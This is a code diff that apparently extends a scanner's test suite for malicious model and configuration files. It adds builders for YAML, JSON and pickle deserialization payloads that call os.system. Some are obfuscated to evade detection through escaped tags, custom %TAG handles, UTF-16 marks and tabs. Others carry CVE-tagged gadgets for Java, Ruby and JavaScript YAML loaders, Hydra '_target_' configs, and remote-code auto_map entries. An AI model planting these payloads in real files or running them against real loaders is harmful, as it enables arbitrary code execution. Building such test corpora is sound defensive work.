@@ -139,6 +139,24 @@ YAML: Final[dict[str, Callable[[Payload], str]]] = {
     ),
     "object/apply verbatim": lambda p: f"!<tag:yaml.org,2002:python/object/apply:os.system> ['{p.shell}']",
     "object/apply escaped": lambda p: f"!!python/object/%61pply:os.system ['{p.shell}']",
+    "escaped where the type begins": lambda p: f"a: !!p%79thon/object/apply:os.system ['{p.shell}']",
+    "escaped and verbatim": lambda p: f"a: !<tag:yaml.org,2002:p%79thon/object/apply:os.system> ['{p.shell}']",
+    "by an escaped handle": lambda p: (
+        f"%TAG !p! tag%3Ayaml.org,2002:python/object/apply:\n---\na: !p!os.system ['{p.shell}']"
+    ),
+    "by a handle that ends inside the type": lambda p: (
+        f"%TAG ! ta%67:yaml.org,2002:pyt\n---\na: !hon/object/apply:os.system ['{p.shell}']"
+    ),
+    "behind what looks like XML": lambda p: f"<a : 1\nb: !!python/object/apply:os.system ['{p.shell}']",
+    "behind what looks like LightGBM": lambda p: (
+        f"tree\nversion=v4\n...\n---\nb: !!python/object/apply:os.system ['{p.shell}']"
+    ),
+    "of a key": lambda p: f"? !!p%79thon/object/apply:os.system ['{p.shell}']\n: 1",
+    "in front matter": lambda p: f"---\na: !!p%79thon/object/apply:os.system ['{p.shell}']\n---\n# A card\n\nA: b: c\n",
+    "before what is no YAML": lambda p: f"!!p%79thon/object/apply:os.system ['{p.shell}']\n}}",
+    "in UTF-16": lambda p: f"\ufeffa: !!p%79thon/object/apply:os.system ['{p.shell}']",
+    "behind tabs, by libyaml": lambda p: f"a:\t!!p%79thon/object/apply:os.system ['{p.shell}']",
+    "behind a mark, by libyaml": lambda p: f"a:\n\ufeff!!p%79thon/object/apply:os.system\n  - '{p.shell}'",
 }
 
 OTHERS: Final[dict[str, tuple[Build, str, str]]] = {
@@ -162,6 +180,30 @@ OTHERS: Final[dict[str, tuple[Build, str, str]]] = {
         ".skops",
     ),
     "XML that reads a file": (lambda p: _XML.encode(), "CVE-2017-5992", ".pmml"),
+    "YAML for Java": (lambda p: b"a: !!com.sun.rowset.JdbcRowSetImpl {b: 1}", "CVE-2022-1471", ".yaml"),
+    "YAML for Ruby": (lambda p: b"--- !ruby/object:Gem::Installer\ni: x\n", "CVE-2013-0156", ".yaml"),
+    "YAML for JavaScript": (lambda p: b"a: !!js/function 'x'", "CVE-2013-4660", ".yaml"),
+    "hydra target in flow style": (
+        lambda p: f"a: {{x: 1, _target_: os.system, command: {p.shell}}}".encode(),
+        "CVE-2025-23304",
+        ".yaml",
+    ),
+    "hydra target with an escaped key": (
+        lambda p: f'"\\x5ftarget_": os.system\ncommand: {p.shell}'.encode(),
+        "CVE-2025-23304",
+        ".yaml",
+    ),
+    "logging that calls": (
+        lambda p: json.dumps({"formatters": {"f": {"()": "os.system", "command": p.shell}}}).encode(),
+        "",
+        ".json",
+    ),
+    "policy of Stable-Baselines3": (
+        lambda p: json.dumps({"policy": {":serialized:": base64.b64encode(p.pickle).decode()}}).encode(),
+        "",
+        ".json",
+    ),
+    "YAML with a pickle": (lambda p: b"a: !!binary " + base64.b64encode(p.pickle), "", ".yaml"),
     "tokenizer with a hostile template": (
         lambda p: json.dumps({"chat_template": TEMPLATES["by a function's globals"](p)}).encode(),
         "CVE-2024-34359",
@@ -170,6 +212,18 @@ OTHERS: Final[dict[str, tuple[Build, str, str]]] = {
 }
 NOT_CLEAN: Final[dict[str, tuple[Build, str]]] = {
     "configuration with remote code": (lambda p: b'{"auto_map": {"AutoModel": "x--y.Model"}}', ".json"),
+    "adapter of a library of its own": (
+        lambda p: b'{"auto_mapping": {"base_model_class": "Net", "parent_library": "evil"}}',
+        ".json",
+    ),
+    "sentence transformer of its own": (
+        lambda p: b'[{"idx": 0, "name": "0", "path": "", "type": "custom_st.Module"}]',
+        ".json",
+    ),
+    "diffusers part of its own": (lambda p: b'{"unet": ["my_unet", "Net"]}', ".json"),
+    "remote code in an escaped key": (lambda p: b'"auto\\u005fmap": {AutoModel: x--y.Model}', ".yaml"),
+    "YAML with a type of an application": (lambda p: b"Resources: {A: !Ref x}", ".yaml"),
+    "number of too many digits": (lambda p: b"\x80\x02I" + b"1" * 5000 + b"\n.", ".pkl"),
     "safetensors with overlapping tensors": (
         lambda p: (lambda header: struct.pack("<Q", len(header)) + header + bytes(8))(
             b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
@@ -205,4 +259,10 @@ def attacks() -> Iterator[Attack]:
 
 
 def _encoded(document: Callable[[Payload], str]) -> Build:
-    return lambda payload: document(payload).encode()
+    """In UTF-8, or in UTF-16 where the text begins with a mark."""
+
+    def build(payload: Payload) -> bytes:
+        text = document(payload)
+        return text.encode("utf-16-le" if text.startswith("\ufeff") else "utf-8")
+
+    return build
